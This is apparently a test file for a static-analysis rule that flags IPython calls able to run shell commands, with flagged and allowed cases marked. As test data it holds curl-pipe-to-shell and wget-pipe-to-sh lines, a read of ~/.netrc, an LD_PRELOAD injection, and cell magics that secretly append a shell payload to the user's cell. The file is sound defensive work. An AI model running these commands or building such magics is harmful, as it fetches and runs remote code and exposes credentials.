# Notebook-export-style cases for exec-ipython-shell (issue #16).
from IPython import get_ipython
from IPython import get_ipython as gi
from IPython.core.interactiveshell import InteractiveShell
from IPython.utils import process

ip = get_ipython()
# ruleid: exec-ipython-shell
get_ipython().system("curl -s https://example.org/env.sh | bash")
# ruleid: exec-ipython-shell
ip.system("nvidia-smi -pm 1")
# ruleid: exec-ipython-shell
files = get_ipython().getoutput("ls /data/shards")
# ruleid: exec-ipython-shell
get_ipython().run_line_magic("sx", "rm -rf ~/.cache/wandb")
# ruleid: exec-ipython-shell
get_ipython().run_cell_magic("bash", "", "export LD_PRELOAD=/tmp/x.so\npython train.py\n")
# ruleid: exec-ipython-shell
process.system("git reflog expire --expire=now --all")


# Issue #16: the shell reached under another name.
cmd = "wget -qO- https://example.org/x | sh"
# ruleid: exec-ipython-shell
gi().system(cmd)
shell = gi()
# ruleid: exec-ipython-shell
shell.run_line_magic("sx", cmd)
# ruleid: exec-ipython-shell
out = shell.getoutput("cat ~/.netrc")
# ruleid: exec-ipython-shell
InteractiveShell.instance().system_raw(cmd)
# ruleid: exec-ipython-shell
getattr(get_ipython(), "sys" + "tem")(cmd)
# ruleid: exec-ipython-shell
get_ipython().magic("sx " + cmd)
# ruleid: exec-ipython-shell
process.getoutputerror(cmd)
# ruleid: exec-ipython-shell
shell.run_cell(f"!{cmd}")

# ok: exec-ipython-shell
get_ipython().run_line_magic("matplotlib", "inline")
# ok: exec-ipython-shell
get_ipython().run_line_magic("load_ext", "autoreload")
# ok: exec-ipython-shell
get_ipython().run_cell_magic("time", "", "trainer.fit(model)")
# ok: exec-ipython-shell
platform.system()
# ok: exec-ipython-shell
ip.user_ns["model"] = model
# ok: exec-ipython-shell
gi().run_line_magic("load_ext", "tensorboard")
# ok: exec-ipython-shell
shell.run_cell_magic("timeit", "", "model(batch)")
# ok: exec-ipython-shell
InteractiveShell.instance().run_line_magic("config", "InlineBackend.figure_format = 'retina'")
# ok: exec-ipython-shell
getattr(get_ipython(), "kernel", None)
# ok: exec-ipython-shell
subprocess_output = trainer.system(cmd)
# ok: exec-ipython-shell
shell.run_cell("import torch\n" + cmd)
# ok: exec-ipython-shell
get_ipython().magic("matplotlib " + cmd)


# Issue #16: the shell a Magics class holds, and the one an extension gets.
from IPython.core.magic import Magics, cell_magic, line_magic, magics_class


@magics_class
class ClusterMagics(Magics):
    @line_magic
    def sync_ckpt(self, line):
        # ruleid: exec-ipython-shell
        self.shell.system(f"aws s3 sync {line} s3://bucket/ckpt")

    @line_magic
    def prep(self, line):
        src = self._fetch_cell(line)
        # ruleid: exec-ipython-shell
        self.shell.run_cell(src)
        # ruleid: exec-ipython-shell
        gpus = self.shell.getoutput("nvidia-smi -L")
        ip = self.shell
        # ruleid: exec-ipython-shell
        ip.run_line_magic("sx", line)
        # ruleid: exec-ipython-shell
        self.shell.run_cell("!" + line)
        return gpus

    @cell_magic
    def gputime(self, line, cell):
        # ok: exec-ipython-shell
        self.shell.run_cell(cell)

    @line_magic
    def setup(self, line):
        # ok: exec-ipython-shell
        self.shell.run_line_magic("load_ext", line)
        # session 16: the line becomes the cell's second line, and a "!"
        # there is a shell command
        # ruleid: exec-ipython-shell
        self.shell.run_cell("import torch\n" + line)
        # ok: exec-ipython-shell
        self.shell.user_ns["trainer"] = line
        # ok: exec-ipython-shell
        self.shell.run_line_magic("matplotlib", "inline")


def load_ipython_extension(ipython):
    # ruleid: exec-ipython-shell
    ipython.system("pip install -q flash-attn")
    # ruleid: exec-ipython-shell
    ipython.run_cell_magic("bash", "", "nvidia-smi -pm 1\n")
    # ok: exec-ipython-shell
    ipython.register_magics(ClusterMagics)
    # ok: exec-ipython-shell
    ipython.run_line_magic("load_ext", "autoreload")


def unload_ipython_extension(ip):
    sh = ip
    # ruleid: exec-ipython-shell
    sh.getoutput("rm -rf ~/.cache/torch_extensions")


def run_cmd(cmd):
    # ok: exec-ipython-shell
    return subprocess_output.run(cmd, shell=True).system


# Issue #16, session 16: IPython's other code runners. A cell or code object
# the code does not spell runs whatever it holds, "!" lines included.
def replay_cells(cells, path):
    for src in cells:
        # ruleid: exec-ipython-shell
        get_ipython().run_cell_async(src)
        # ruleid: exec-ipython-shell
        gi().run_code(compile(src, "<cell>", "exec"))
        # ruleid: exec-ipython-shell
        get_ipython().ex(src)
        # ruleid: exec-ipython-shell
        steps = get_ipython().ev(src)
        # ruleid: exec-ipython-shell
        get_ipython().runcode(src)
        # ruleid: exec-ipython-shell
        gi().run_ast_nodes(ast.parse(src).body, "<cell>")
    # ruleid: exec-ipython-shell
    get_ipython().safe_execfile(path, get_ipython().user_ns)
    # ruleid: exec-ipython-shell
    get_ipython().safe_execfile_ipy("setup_env.ipy")
    # ruleid: exec-ipython-shell
    get_ipython().safe_run_module("torch.utils.collect_env", get_ipython().user_ns)
    # ruleid: exec-ipython-shell
    get_ipython().run_cell_async("!pip install -q deepspeed")
    # ruleid: exec-ipython-shell
    getattr(get_ipython(), "ex")(src)
    # ok: exec-ipython-shell
    get_ipython().ex("import torch")
    # ok: exec-ipython-shell
    get_ipython().ev("torch.cuda.device_count()")
    # ok: exec-ipython-shell
    get_ipython().run_cell_async("trainer.fit(model)")
    # ok: exec-ipython-shell
    get_ipython().run_cell("%%time\nfor batch in loader:\n    loss = model(batch)\n")
    # ok: exec-ipython-shell
    get_ipython().run_cell(raw_cell="import torch", store_history=False)
    # ruleid: exec-ipython-shell
    get_ipython().run_cell(raw_cell=src, store_history=False)
    # ruleid: exec-ipython-shell
    get_ipython().run_cell("import torch\n!nvidia-smi -pm 1")
    # ruleid: exec-ipython-shell
    get_ipython().run_cell("gpus = !nvidia-smi -L")
    # ruleid: exec-ipython-shell
    getattr(get_ipython(), "run_cell")(src)
    # ok: exec-ipython-shell
    steps = get_ipython().user_ns["ex"](src)
    # ok: exec-ipython-shell
    torch.distributions.Exponential(rate).ex(src)


@magics_class
class ReplayMagics(Magics):
    @cell_magic
    def safe_exec(self, line, cell):
        # ruleid: exec-ipython-shell
        self.shell.ex(cell)
        # ruleid: exec-ipython-shell
        self.shell.run_code(cell)
        # ruleid: exec-ipython-shell
        self.shell.safe_execfile(line)

    # A cell magic that edits the cell it was given before running it: the
    # edit can add "!" lines the user never wrote.
    @cell_magic
    def profile(self, line, cell):
        cell = cell + "\n" + "!curl -s https://example.org/p | sh"
        # ruleid: exec-ipython-shell
        self.shell.run_cell(cell)

    @cell_magic
    def amp(self, line, cell):
        cell += _PAYLOAD
        # ruleid: exec-ipython-shell
        self.shell.run_cell(cell)

    @cell_magic
    def on_gpu(self, line, cell):
        cell = f"{cell}\n{_PAYLOAD}"
        # ruleid: exec-ipython-shell
        self.shell.run_cell(cell)

    @cell_magic
    def timed(self, line, cell):
        # ruleid: exec-ipython-shell
        self.shell.run_cell(cell + "\n" + _PAYLOAD)
        # ruleid: exec-ipython-shell
        self.shell.run_cell(f"{cell}\n{_PAYLOAD}")
        # ruleid: exec-ipython-shell
        self.shell.run_cell_async(_PAYLOAD + cell)

    @cell_magic
    def seeded(self, line, cell):
        for cell in _PAYLOADS:
            # ruleid: exec-ipython-shell
            self.shell.run_cell(cell)

    @cell_magic
    def quiet(self, line, cell):
        # a look-alike: the cell is only read, then run as given
        n_lines = len(cell.splitlines())
        self.log(n_lines, line)
        # ok: exec-ipython-shell
        self.shell.run_cell(cell)

    @cell_magic
    async def quiet_async(self, line, cell):
        # ok: exec-ipython-shell
        await self.shell.run_cell_async(cell)

    @cell_magic
    def strip_cell(self, line, cell):
        text = cell.strip()
        # ok: exec-ipython-shell
        self.shell.run_cell(cell)
        return text
